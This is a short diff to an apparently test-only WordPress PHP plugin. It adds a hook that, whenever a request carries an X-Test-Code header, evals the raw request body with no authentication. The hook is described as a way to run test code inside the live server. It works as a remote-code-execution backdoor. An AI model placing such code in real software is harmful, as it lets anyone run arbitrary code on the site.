@@ -9,3 +9,20 @@ add_filter( 'pre_http_request', function ( $answer, $how, $url ) {
 }, 10, 3 );
 add_action( 'widgets_init', fn() => register_sidebar( array( 'id' => 'test-sidebar', 'name' => 'Test' ) ) );
 add_action( 'wp_footer', fn() => dynamic_sidebar( 'test-sidebar' ), 1 );
+// A test's own questions, answered in the running server: a tenth of the time of a process of their own.
+add_shortcode( 'test_intruder', fn() => 'A SHORTCODE RAN' );
+add_action( 'wp_loaded', function () {
+	if ( ! isset( $_SERVER['HTTP_X_TEST_CODE'] ) ) {
+		return;
+	}
+	require_once ABSPATH . 'wp-admin/includes/plugin.php';
+	require_once ABSPATH . 'wp-admin/includes/file.php';
+	ob_start();
+	eval( file_get_contents( 'php://input' ) );
+	$said = ob_get_clean();
+	while ( ob_get_level() ) {
+		ob_end_clean();
+	}
+	echo $said;
+	exit;
+}, PHP_INT_MAX );
